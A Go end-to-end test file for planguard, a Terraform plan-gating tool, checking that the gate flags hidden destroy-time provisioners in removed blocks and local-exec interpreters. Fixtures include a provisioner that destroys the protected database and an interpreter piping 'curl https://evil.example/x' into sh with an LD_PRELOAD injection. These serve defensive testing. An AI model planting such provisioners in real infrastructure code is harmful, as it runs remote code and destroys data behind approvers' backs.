package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/planguard/terraform-provider-planguard/internal/testbin"
)

// Found by an attacker's review of the apply-time fixes: a destroy-mode plan (terraform plan -destroy) records no
// action_reason on its deletes, so the gate did not list the unseen
// destroy-time provisioner of a `removed` block for them (it listed it
// only for delete_because_no_resource_config / _no_module). Terraform
// 1.9+ runs it during the apply: here it destroys the protected database.
func TestApplyTimeRemovedProvisionerDestroyMode(t *testing.T) {
	tf := terraform19(t)
	w, root := newWorld(t, tf, "infra", "agent@example.com")
	alice := w.key("alice")
	pub, _ := os.ReadFile(alice + ".pub")
	os.WriteFile(filepath.Join(root, "allowed_signers"), []byte("alice@example.com "+string(pub)), 0o600)
	policy := filepath.Join(root, "planguard.hcl")
	os.WriteFile(policy, []byte("scope = \"prod\"\ntrust {\n  allowed_signers = \"allowed_signers\"\n}\nprotect \"db\" {\n  addresses = [\"terraform_data.prod_db\"]\n}\n"+applyPins), 0o600)
	pol := "--policy=" + policy
	marker := filepath.Join(root, "pwned")
	stateHas := func(addr string) bool {
		for _, l := range strings.Split(w.must(0, tf, "state", "list"), "\n") {
			if strings.TrimSpace(l) == addr {
				return true
			}
		}
		return false
	}

	w.write("main.tf", "resource \"terraform_data\" \"prod_db\" {\n  input = \"db\"\n}\nresource \"terraform_data\" \"scratch\" {\n  input = \"tmp\"\n}\n")
	w.plan()
	w.pg(0, "apply", pol, "tfplan", "--", "-no-color")

	w.write("main.tf", fmt.Sprintf(`resource "terraform_data" "prod_db" {
  input = "db"
}
removed {
  from = terraform_data.scratch
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "touch %s && %s destroy -lock=false -auto-approve -target=terraform_data.prod_db"
  }
}
`, marker, tf))
	// The destroy of the unprotected scratch object alone, in destroy mode.
	w.must(0, tf, "plan", "-input=false", "-no-color", "-destroy", "-target=terraform_data.scratch", "-out=tfplan")
	out := w.pg(1, "check", pol, "tfplan")
	contains(t, out, "removed-block destroy on terraform_data.scratch")
	w.pg(1, "apply", pol, "tfplan", "--", "-no-color")
	if _, err := os.Stat(marker); err == nil || !stateHas("terraform_data.prod_db") {
		t.Fatalf("the apply ran the removed block's provisioner (marker %v); state:\n%s", err == nil, w.must(0, tf, "state", "list"))
	}
}

// Found by an attacker's review of the apply-time fixes: a moved block to an address that a removed block then names:
// Terraform plans the delete with action_reason
// delete_because_no_move_target (a normal plan, no -destroy or -target),
// which the gate did not treat as "left the configuration", and Terraform
// 1.9+ runs the removed block's destroy-time provisioner during apply.
func TestApplyTimeRemovedProvisionerNoMoveTarget(t *testing.T) {
	tf := terraform19(t)
	w, root := newWorld(t, tf, "infra", "agent@example.com")
	alice := w.key("alice")
	pub, _ := os.ReadFile(alice + ".pub")
	os.WriteFile(filepath.Join(root, "allowed_signers"), []byte("alice@example.com "+string(pub)), 0o600)
	policy := filepath.Join(root, "planguard.hcl")
	os.WriteFile(policy, []byte("scope = \"prod\"\ntrust {\n  allowed_signers = \"allowed_signers\"\n}\nprotect \"db\" {\n  addresses = [\"terraform_data.prod_db\"]\n}\n"+applyPins), 0o600)
	pol := "--policy=" + policy
	marker := filepath.Join(root, "pwned")

	w.write("main.tf", "resource \"terraform_data\" \"prod_db\" {\n  input = \"db\"\n}\nresource \"terraform_data\" \"scratch\" {\n  input = \"tmp\"\n}\n")
	w.plan()
	w.pg(0, "apply", pol, "tfplan", "--", "-no-color")

	w.write("main.tf", fmt.Sprintf(`resource "terraform_data" "prod_db" {
  input = "db"
}
moved {
  from = terraform_data.scratch
  to   = terraform_data.scratch2
}
removed {
  from = terraform_data.scratch2
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "touch %s"
  }
}
`, marker))
	w.plan()
	js := w.must(0, tf, "show", "-json", "tfplan")
	contains(t, js, `"action_reason":"delete_because_no_move_target"`)
	out := w.pg(1, "check", pol, "tfplan")
	contains(t, out, "removed-block destroy on terraform_data.scratch2")
	w.pg(1, "apply", pol, "tfplan", "--", "-no-color")
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the apply ran the removed block's provisioner")
	}
}

// Found by an attacker's review of the apply-time fixes: the report shows a local-exec provisioner's command, but not
// its interpreter, which runs first and may be any program: an approver who
// reviews "echo tidy" approves whatever the interpreter runs. The report
// must show the interpreter (and flag environment / working_dir).
func TestApplyTimeLocalExecInterpreterShown(t *testing.T) {
	for _, tool := range []struct{ env, name string }{{"PLANGUARD_TERRAFORM", "terraform"}, {"PLANGUARD_TOFU", "tofu"}} {
		t.Run(tool.name, func(t *testing.T) {
			tf := testbin.Tool(t, tool.env, tool.name)
			root := t.TempDir()
			w := &world{t: t, tf: tf, dir: filepath.Join(root, "infra"), keys: filepath.Join(root, "keys")}
			os.MkdirAll(w.dir, 0o755)
			w.env = append(os.Environ(), "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1",
				"PLANGUARD_TERRAFORM="+tf, "NO_COLOR=1", "TF_LOG=")
			os.WriteFile(filepath.Join(root, "allowed_signers"), []byte("alice@example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n"), 0o600)
			policy := filepath.Join(root, "planguard.hcl")
			os.WriteFile(policy, []byte("scope = \"prod\"\ntrust {\n  allowed_signers = \"allowed_signers\"\n}\nprotect \"db\" {\n  addresses = [\"terraform_data.prod_db\"]\n}\n"+applyPins), 0o600)
			w.write("main.tf", `resource "terraform_data" "tidy" {
  provisioner "local-exec" {
    command     = "echo tidy"
    interpreter = ["/bin/sh", "-c", "curl -s https://evil.example/x | sh; echo"]
    environment = { LD_PRELOAD = "/tmp/evil.so" }
  }
}
`)
			w.plan()
			for _, format := range []string{"text", "json", "markdown"} {
				out := w.pg(1, "check", "--policy="+policy, "--format="+format, "tfplan")
				contains(t, out, "evil.example", "LD_PRELOAD")
			}
		})
	}
}
